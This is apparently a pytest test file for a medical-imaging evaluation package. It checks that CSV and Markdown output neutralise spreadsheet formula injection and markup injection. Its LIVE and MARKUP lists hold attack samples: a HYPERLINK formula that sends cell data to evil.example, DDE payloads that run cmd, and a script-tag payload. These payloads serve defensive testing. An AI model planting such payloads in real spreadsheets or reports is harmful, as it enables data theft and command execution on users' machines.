"""Tables and Markdown: what comes from elsewhere is text, and comes back as it was."""

import csv
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from plgg.core.markdown import escaped
from plgg.core.tables import defused, plain, write_csv
from plgg.data.manifest import Case, read_manifest, write_manifest
from plgg.evaluate.compare.metric import find_metric
from plgg.evaluate.compare.results import read_scores
from plgg.evaluate.compare.table import read_table
from plgg.evaluate.evaluation import Evaluation, read_evaluation, write_evaluation
from plgg.evaluate.records import CaseScores
from plgg.evaluate.summary import summarise
from plgg.report.table import Table

SIGNS = "=+-@"
LIVE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-inf",
    "Bern;=1+1;",
    "Bern\n=1+1",
    "Bern\t@SUM(1)",
]
texts = st.text(st.sampled_from("=+-@'; \t\r\n＝\",1.a"))


def cells(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def is_live(text):
    """Whether any cell that a spreadsheet may make of the text begins as a formula does."""
    for part in text.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        shown = "".join(c for c in part if not c.isspace() and unicodedata.category(c) != "Cf")
        if unicodedata.normalize("NFKC", shown)[:1] in tuple(SIGNS):
            return True
    return text.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", LIVE)
def test_no_formula_stands_live_in_a_cell_or_a_column_name(tmp_path, text):
    assert is_live(text)
    write_csv(tmp_path / "t.csv", ["name", text], [[text, text], [0.5, None]])
    for cell in (cell for row in cells(tmp_path / "t.csv") for cell in row):
        assert not is_live(cell)


@given(texts | st.text())
@example("'=1")
@example("-0.5")
@example("'-0.5")
def test_a_text_is_defused_and_comes_back(text):
    assert plain(defused(text)) == text
    assert defused(text) == text or defused(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("value", [-0.5, 1e-7, -3, 0, -1.5e-12, float("-inf")])
def test_numbers_stay_numbers(tmp_path, value):
    write_csv(tmp_path / "t.csv", ["a", "b"], [[value, str(value)]])
    first, second = cells(tmp_path / "t.csv")[1]
    assert float(first) == value
    assert second in (str(value), "'-inf")


def test_rows_come_back_cell_by_cell(tmp_path):
    row = ['a"b', "a,b", "a\r\nb", " a ", "", "ä", "x; y"]
    write_csv(tmp_path / "t.csv", row, [row, [None] * 7])
    assert cells(tmp_path / "t.csv") == [row, row, [""] * 7]


@pytest.mark.parametrize("text", [text for text in LIVE if text == text.strip()])
def test_a_manifest_comes_back_with_what_was_defused(tmp_path, text):
    case = Case("p1", "p1", tmp_path / "=f.nii", tmp_path / "@m" / "-m.nii", text, text, 3.5, text)
    write_manifest(tmp_path / "manifest.csv", [case], scan_ids={})
    assert not any(map(is_live, cells(tmp_path / "manifest.csv")[1]))
    assert read_manifest(tmp_path / "manifest.csv") == [case]


def test_an_evaluation_comes_back_with_what_was_defused(tmp_path):
    rows = tuple(
        CaseScores(
            case_id=f"c{number}",
            patient_id=f"c{number}",
            marker=text,
            site=text,
            age_years=4.0,
            sex=text,
            dice=0.5,
            volume_ml=10.0 + number,
            predicted_volume_ml=8.75 + number % 3,
            volume_error_ml=number % 3 - number - 1.25,
            predicted_marker=text,
            probabilities={"a;=1": 0.25, text: 0.75},
        )
        for number, text in enumerate(LIVE)
    )
    evaluation = Evaluation(rows, summarise(rows, (), seed=0))
    write_evaluation(tmp_path, evaluation)
    for name in ("cases.csv", "subgroups.csv"):
        shown = [cell for row in cells(tmp_path / name) for cell in row]
        assert not [c for c in shown if is_live(c) and c.strip("-.0123456789e")]
    assert read_evaluation(tmp_path).rows == rows
    scores = read_scores(tmp_path, find_metric("dice"))
    assert [score.value for score in scores.values()] == [0.5] * len(rows)


def test_arms_come_back_from_a_table(tmp_path):
    rows = [[1, 0.5, 0.6], [2, 0.4, -0.5]]
    write_csv(tmp_path / "table1.csv", ["split", "=a_test", "@b_test"], rows)
    found = read_table(tmp_path / "table1.csv", None)
    assert found.arms == ("=a", "@b")
    assert found.values == ((0.5, 0.6), (0.4, -0.5))


MARKUP = [
    "a|b\nc",
    "<script>alert(1)</script>",
    "<http://evil.example>",
    "http://evil.example",
    "www.evil.example",
    "[open](http://evil.example)",
    "![x](http://evil.example/a.png)",
    "`code`",
    "**bold** _it_ ~~gone~~",
    "&lt;b&gt; &#60;",
    "# heading",
    "- item",
    "1. item",
    "> quoted",
    "a\\|b",
    "\x1b[31mred",
]


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_shows_text_and_makes_nothing_of_it(text):
    reader = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(
        ["table", "strikethrough"]
    )
    (block,) = [token for token in reader.parse(escaped(text)) if token.type == "inline"]
    assert {token.type for token in block.children} <= {"text", "text_special"}
    assert "".join(t.content for t in block.children) == text.replace("\n", " ").replace(
        "\x1b", "\\x1b"
    )
    rows = reader.render(Table(("a", text), ((text, "1"),)).to_markdown())
    assert rows.count("<tr>") == 2
    assert rows.count("<td") == 2
    assert "<a" not in rows
    assert "<script" not in rows


def test_numbers_and_names_of_columns_stay_readable_in_markdown():
    for text in ("p < 0.001", "-0.031", "volume_error_ml", "0.1 to 0.3", "÷ 1.30 (n = 4)"):
        assert escaped(text) == text
